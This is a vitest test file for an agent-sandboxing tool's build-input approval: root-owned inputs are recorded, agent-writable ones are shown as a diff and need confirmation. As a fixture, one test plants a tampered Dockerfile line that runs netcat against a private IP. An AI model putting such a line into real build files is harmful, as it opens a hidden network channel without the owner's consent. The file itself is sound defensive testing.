// The question before a build: root-only inputs are recorded as they are; inputs someone else can
// write are shown (the Dockerfile as a diff) and asked about, refused without a terminal.
import { chownSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { approvedBuildInputs, buildTrust } from '../../src/commands/build-approval.js';
import { HermitError } from '../../src/errors.js';
import type { LoadedProfile } from '../../src/profile/types.js';
import { buildApprovalOf } from '../../src/state/store.js';
import { sampleProfile } from './fixtures.js';

const dir = mkdtempSync(join(tmpdir(), 'hermit-build-approval-'));
const ctx = join(dir, 'ctx');
const file = join(dir, 'agent.yaml');
const loaded: LoadedProfile = { profile: { ...sampleProfile(), build: { context: ctx, dockerfile: join(ctx, 'Dockerfile') } }, file, locate: () => undefined };
const stateBefore = process.env.HERMIT_STATE_DIR;

beforeAll(() => {
  process.env.HERMIT_STATE_DIR = join(dir, 'state');
  mkdirSync(ctx);
  writeFileSync(file, 'name: agent\n');
  writeFileSync(join(ctx, 'Dockerfile'), 'FROM x\nRUN make\n');
});
afterAll(() => {
  if (stateBefore === undefined) delete process.env.HERMIT_STATE_DIR;
  else process.env.HERMIT_STATE_DIR = stateBefore;
  rmSync(dir, { recursive: true, force: true });
});

const never = () => { throw new Error('asked'); };

describe('approval of build inputs', () => {
  it('records inputs only root can write without asking', async () => {
    const inputs = await approvedBuildInputs(loaded, 'run', never);
    expect(await buildApprovalOf('agent', file)).toMatchObject({ by: 'root-owned files', digest: inputs.digest, files: { Dockerfile: expect.stringMatching(/^file 644 [0-9a-f]{64}$/) } });
  });

  it('asks about a changed Dockerfile the agent can write, showing the diff; refuses without a terminal', async () => {
    writeFileSync(join(ctx, 'Dockerfile'), 'FROM x\nRUN make\nRUN nc 192.168.50.20 80 > /leak\n');
    chownSync(join(ctx, 'Dockerfile'), 1000, 1000);
    let err: unknown;
    await approvedBuildInputs(loaded, 'update', () => undefined).catch((e: unknown) => { err = e; });
    expect(err).toBeInstanceOf(HermitError);
    expect((err as HermitError).exitCode).toBe(2);
    const text = (err as HermitError).message;
    expect(text).toContain(`${join(ctx, 'Dockerfile')} is owned by uid 1000`);
    expect(text).toContain('    @@ -1,2 +1,3 @@\n     FROM x\n     RUN make\n    +RUN nc 192.168.50.20 80 > /leak');
    expect(text).toContain('      ~ Dockerfile');
    expect(text).toContain('hermit update: nothing was changed');
    expect((err as HermitError).hint).toMatch(`Read the above, then approve them with: sudo hermit trust ${file}`);

    await expect(approvedBuildInputs(loaded, 'update', async () => false)).rejects.toThrow(/not approved; nothing was changed/);
    let question = '';
    const inputs = await approvedBuildInputs(loaded, 'update', async (q) => { question = q; return true; });
    expect(question).toMatch(/Approve these build inputs of profile 'agent' and build\? \[y\/N\] $/);
    expect(await buildApprovalOf('agent', file)).toMatchObject({ by: 'hermit update (asked)', digest: inputs.digest });
    // Approved: not asked again.
    await approvedBuildInputs(loaded, 'run', never);
  });

  it('hermit trust shows the change and records it', async () => {
    writeFileSync(join(ctx, 'extra.sh'), 'echo\n');
    const t = await buildTrust(loaded);
    expect(t!.lines[0]).toMatch(/^ {2}Build inputs: Dockerfile sha256:[0-9a-f]{12}, 2 files \(digest sha256:[0-9a-f]{12}\):$/);
    expect(t!.lines).toContain('      + extra.sh');
    expect(t!.json).toMatchObject({ files: 2, approved: false });
    await t!.approve();
    expect((await buildTrust(loaded))!.json.approved).toBe(true);
    expect(await buildTrust({ ...loaded, profile: sampleProfile() })).toBeUndefined();
  });
});
